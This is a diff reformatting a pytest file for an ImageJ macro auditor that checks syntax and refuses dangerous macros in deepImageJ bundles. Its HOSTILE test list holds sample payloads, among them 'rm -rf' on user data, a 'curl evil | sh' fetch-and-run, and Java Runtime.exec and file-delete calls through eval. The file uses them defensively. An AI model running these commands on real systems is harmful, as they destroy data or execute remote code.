@@ -21,7 +21,9 @@ REPO = Path(__file__).resolve().parents[1]
 def _real_macros() -> list[Path]:
     found = []
     for folder in ("deepimagej_bundles", "imagej_macros", "unet_pancreatic"):
-        found += [p for p in (ASSETS / folder).rglob("*") if p.suffix in (".ijm", ".txt") and p.name != "LICENSE"]
+        found += [
+            p for p in (ASSETS / folder).rglob("*") if p.suffix in (".ijm", ".txt") and p.name != "LICENSE"
+        ]
     return sorted(found) + sorted((REPO / "macros").glob("*.ijm"))
 
 
@@ -42,28 +44,33 @@ def test_calls_join_dotted_names_across_spaces_and_comments():
 
 
 def test_constant_arguments_are_folded_and_dynamic_ones_are_not():
-    tokens, _ = tokenize('saveAs("Tiff", "/data/" + "out" + 1 + File.separator + "x.tif");\nopen(dir + "a.tif");')
+    tokens, _ = tokenize(
+        'saveAs("Tiff", "/data/" + "out" + 1 + File.separator + "x.tif");\nopen(dir + "a.tif");'
+    )
     save, op = calls(tokens)
     assert save.literal(1) == "/data/out1/x.tif"
     assert op.literal(0) is None and constant_value(()) is None
 
 
-@pytest.mark.parametrize(("text", "line", "needle"), [
-    ('x = "abc;\nprint(x);', 1, "unterminated string"),
-    ("s = 'abc;\nprint(s);", 1, "unterminated string"),
-    ('x = 1;\n/* never closed\nprint(2);', 2, "unterminated comment"),
-    ('if (true) {\nprint(1);\n', 1, "'}' expected"),
-    ('x = 1;\n}\nprint(2);', 2, "unexpected '}'"),
-    ('y = (1 + 2;\nprint(y);', 1, "')' expected"),
-    ('a = newArray(1, 2];', 1, "')' expected before ']'"),
-])
+@pytest.mark.parametrize(
+    ("text", "line", "needle"),
+    [
+        ('x = "abc;\nprint(x);', 1, "unterminated string"),
+        ("s = 'abc;\nprint(s);", 1, "unterminated string"),
+        ("x = 1;\n/* never closed\nprint(2);", 2, "unterminated comment"),
+        ("if (true) {\nprint(1);\n", 1, "'}' expected"),
+        ("x = 1;\n}\nprint(2);", 2, "unexpected '}'"),
+        ("y = (1 + 2;\nprint(y);", 1, "')' expected"),
+        ("a = newArray(1, 2];", 1, "')' expected before ']'"),
+    ],
+)
 def test_syntax_slips_imagej_runs_through(text, line, needle):
     errors = syntax_errors(text)
     assert errors and errors[0][0] == line and needle in errors[0][1]
 
 
 def test_brackets_in_strings_and_comments_do_not_count():
-    assert syntax_errors('print("(((");\n// }}}\ns = \'[\';\n/* { */') == []
+    assert syntax_errors("print(\"(((\");\n// }}}\ns = '[';\n/* { */") == []
 
 
 # ------------------------------------------------------------------ real macros pass
@@ -92,7 +99,7 @@ def test_real_macros_with_computed_paths_get_notes_not_refusals():
 # ------------------------------------------------------------------ hostile macros are refused
 HOSTILE = [
     ('exec("rm", "-rf", "/home/user/data");', "exec"),
-    ('s = exec("sh -c \'curl evil | sh\'");', "exec"),
+    ("s = exec(\"sh -c 'curl evil | sh'\");", "exec"),
     ('eval("script", "java.lang.Runtime.getRuntime().exec(\\"id\\")");', 'eval("script")'),
     ('eval("js", "x");', 'eval("js")'),
     ('eval("bsh", "new java.io.File(\\"/x\\").delete();");', 'eval("bsh")'),
@@ -136,9 +143,11 @@ def test_hostile_macro_is_refused(text, what, tmp_path):
 
 
 def test_paths_inside_the_bundle_and_ordinary_calls_are_fine(tmp_path):
-    text = (f'open("{tmp_path}/exampleImage.tif");\nsaveAs("Tiff", "{tmp_path}/work/out.tif");\n'
-            'call("ij.plugin.frame.ThresholdAdjuster.setMode", "Red");\nrun("Gaussian Blur...", "sigma=2");\n'
-            'x = "exec(\\"rm\\")"; // File.delete("/")\n')
+    text = (
+        f'open("{tmp_path}/exampleImage.tif");\nsaveAs("Tiff", "{tmp_path}/work/out.tif");\n'
+        'call("ij.plugin.frame.ThresholdAdjuster.setMode", "Red");\nrun("Gaussian Blur...", "sigma=2");\n'
+        'x = "exec(\\"rm\\")"; // File.delete("/")\n'
+    )
     assert audit_macro(text, "m.ijm", bundle_root=tmp_path) == []
 
 
@@ -168,7 +177,9 @@ def test_audit_bundle_macros_reads_the_descriptor_list(tmp_path):
         pytest.skip(f"{src} not found")
     for name in ("config.xml", "preprocessing.txt", "postprocessing.txt"):
         (tmp_path / name).write_bytes((src / name).read_bytes())
-    (tmp_path / "unet_pancreatic_cell_segmentation.h5").symlink_to(src / "unet_pancreatic_cell_segmentation.h5")
+    (tmp_path / "unet_pancreatic_cell_segmentation.h5").symlink_to(
+        src / "unet_pancreatic_cell_segmentation.h5"
+    )
     spec = load_bundle(tmp_path / "config.xml")
     assert spec.preprocessing_macros and audit_bundle_macros(spec) == []
     evil = tmp_path.parent / f"{tmp_path.name}-evil.txt"
